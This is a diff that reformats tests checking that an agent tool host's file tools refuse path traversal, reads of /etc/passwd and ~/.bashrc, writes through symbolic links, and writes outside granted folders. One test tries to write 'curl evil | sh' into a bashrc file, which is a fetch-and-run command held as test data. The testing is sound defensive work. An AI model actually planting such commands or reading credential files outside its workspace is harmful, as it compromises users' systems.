@@ -72,11 +72,17 @@ describe('file tools confined to the workspace root and granted folders', () => 
   });
 
   it('refuses ../, absolute paths and ~ outside the roots', async () => {
-    expectDenied(parse(await host.dispatch('read_file', { path: '../outside/secret.txt' })), path.join(outsideDir, 'secret.txt'));
+    expectDenied(
+      parse(await host.dispatch('read_file', { path: '../outside/secret.txt' })),
+      path.join(outsideDir, 'secret.txt'),
+    );
     expectDenied(parse(await host.dispatch('read_file', { path: '/etc/passwd' })), '/etc/passwd');
     expect(parse(await host.dispatch('read_file', { path: '~/.bashrc' })).code).toBe('PERMISSION_DENIED');
     expectDenied(parse(await host.dispatch('search_files', { path: '..', pattern: 'SECRET' })), work.dir);
-    expectDenied(parse(await host.dispatch('write_file', { path: '../outside/new.txt', content: 'x' })), path.join(outsideDir, 'new.txt'));
+    expectDenied(
+      parse(await host.dispatch('write_file', { path: '../outside/new.txt', content: 'x' })),
+      path.join(outsideDir, 'new.txt'),
+    );
     expect(existsSync(path.join(outsideDir, 'new.txt'))).toBe(false);
   });
 
@@ -85,20 +91,30 @@ describe('file tools confined to the workspace root and granted folders', () => 
     expectDenied(read, 'leak.txt');
     expect(read.error).toContain(`leads to ${path.join(outsideDir, 'secret.txt')} through a symbolic link`);
     expectDenied(parse(await host.dispatch('write_file', { path: 'bashrc', content: 'curl evil | sh\n' })), 'bashrc');
-    expectDenied(parse(await host.dispatch('patch', { path: 'bashrc', old_string: 'original', new_string: 'pwned' })), 'bashrc');
+    expectDenied(
+      parse(await host.dispatch('patch', { path: 'bashrc', old_string: 'original', new_string: 'pwned' })),
+      'bashrc',
+    );
     expect(readFileSync(path.join(outsideDir, 'bashrc'), 'utf8')).toBe('original\n');
   });
 
   it('refuses a path below a linked folder outside, and a dangling link (writing would create its target)', async () => {
     expectDenied(parse(await host.dispatch('read_file', { path: 'out-dir/secret.txt' })), 'out-dir/secret.txt');
-    expectDenied(parse(await host.dispatch('write_file', { path: 'out-dir/planted.txt', content: 'x' })), 'out-dir/planted.txt');
+    expectDenied(
+      parse(await host.dispatch('write_file', { path: 'out-dir/planted.txt', content: 'x' })),
+      'out-dir/planted.txt',
+    );
     expect(existsSync(path.join(outsideDir, 'planted.txt'))).toBe(false);
-    expect(parse(await host.dispatch('write_file', { path: 'dangling.txt', content: 'x' })).code).toBe('PERMISSION_DENIED');
+    expect(parse(await host.dispatch('write_file', { path: 'dangling.txt', content: 'x' })).code).toBe(
+      'PERMISSION_DENIED',
+    );
     expect(existsSync(path.join(outsideDir, 'created-by-link.txt'))).toBe(false);
   });
 
   it('writes through a link that stays inside, to its target, keeping the link', async () => {
-    expect(parse(await host.dispatch('write_file', { path: 'alias.txt', content: 'changed\n' }))).toMatchObject({ created: false });
+    expect(parse(await host.dispatch('write_file', { path: 'alias.txt', content: 'changed\n' }))).toMatchObject({
+      created: false,
+    });
     expect(readFileSync(path.join(ws, 'src', 'main.txt'), 'utf8')).toBe('changed\n');
     expect(await host.dispatch('read_file', { path: 'alias.txt' })).toBe('     1|changed');
   });
@@ -114,21 +130,30 @@ describe('file tools confined to the workspace root and granted folders', () => 
 
   it("uses the operator's fsRead and fsWrite grants for @toolshed/file: read-only where only reading was granted", async () => {
     expect(await host.dispatch('read_file', { path: path.join(shared, 'notes.txt') })).toBe('     1|shared notes');
-    expect(parse(await host.dispatch('write_file', { path: path.join(shared, 'notes.txt'), content: 'x' })).code).toBe('PERMISSION_DENIED');
-    expect(parse(await host.dispatch('write_file', { path: path.join(drop, 'out.txt'), content: 'dropped' }))).toMatchObject({ created: true });
+    expect(parse(await host.dispatch('write_file', { path: path.join(shared, 'notes.txt'), content: 'x' })).code).toBe(
+      'PERMISSION_DENIED',
+    );
+    expect(
+      parse(await host.dispatch('write_file', { path: path.join(drop, 'out.txt'), content: 'dropped' })),
+    ).toMatchObject({ created: true });
     expect(readFileSync(path.join(drop, 'out.txt'), 'utf8')).toBe('dropped');
     expect(await host.dispatch('read_file', { path: path.join(drop, 'out.txt') })).toBe('     1|dropped');
   });
 
   it('holds for calls made from execute_code too', async () => {
-    const code = "try { await tools.read_file({ path: '../outside/secret.txt' }); return 'read'; } catch (e) { return e.code; }";
+    const code =
+      "try { await tools.read_file({ path: '../outside/secret.txt' }); return 'read'; } catch (e) { return e.code; }";
     expect(parse(await host.dispatch('execute_code', { code })).result).toBe('PERMISSION_DENIED');
   });
 
   it('explain shows the roots as enforced by the plugin itself, and nothing else as enforced', () => {
     const file = host.explain().plugins.find((p) => p.name === '@toolshed/file')!;
     const real = (p: string) => realpathSync(p);
-    expect(file.permissions?.enforced.fs).toMatchObject({ by: 'plugin', read: [real(drop), real(shared), real(ws)].sort(), write: [real(drop), real(ws)].sort() });
+    expect(file.permissions?.enforced.fs).toMatchObject({
+      by: 'plugin',
+      read: [real(drop), real(shared), real(ws)].sort(),
+      write: [real(drop), real(ws)].sort(),
+    });
     expect(file.permissions?.enforced.network).toBe('declared, not enforced');
     expect(file.permissions?.enforced.env).toBe('declared, not enforced');
   });
@@ -146,8 +171,14 @@ describe('explain shows only what is enforced, for every tier', () => {
     };
     const other = await createToolHost({ ...options, config });
     try {
-      const [kitchen, bounded] = ['toolshed-plugin-kitchen', 'toolshed-plugin-bounded'].map((name) => other.explain().plugins.find((p) => p.name === name)!);
-      expect(kitchen!.permissions?.enforced).toEqual({ fs: 'declared, not enforced', network: 'declared, not enforced', env: 'declared, not enforced' });
+      const [kitchen, bounded] = ['toolshed-plugin-kitchen', 'toolshed-plugin-bounded'].map(
+        (name) => other.explain().plugins.find((p) => p.name === name)!,
+      );
+      expect(kitchen!.permissions?.enforced).toEqual({
+        fs: 'declared, not enforced',
+        network: 'declared, not enforced',
+        env: 'declared, not enforced',
+      });
       expect(bounded!.permissions?.enforced.fs).toMatchObject({ by: 'sandbox', read: [], write: [] });
       expect(bounded!.permissions?.enforced.env).toMatchObject({ by: 'sandbox', names: [] });
     } finally {
